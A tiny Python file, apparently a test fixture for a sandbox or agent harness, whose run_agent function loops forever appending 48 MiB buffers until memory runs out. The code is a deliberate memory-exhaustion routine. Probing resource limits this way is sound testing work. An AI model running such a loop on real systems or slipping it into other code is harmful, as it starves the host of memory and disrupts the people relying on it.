"""Allocates until there is no more."""

from sound import *


def run_agent(*args, **named):
    held = []
    while True:
        held.append(bytes(bytearray(48 << 20)))
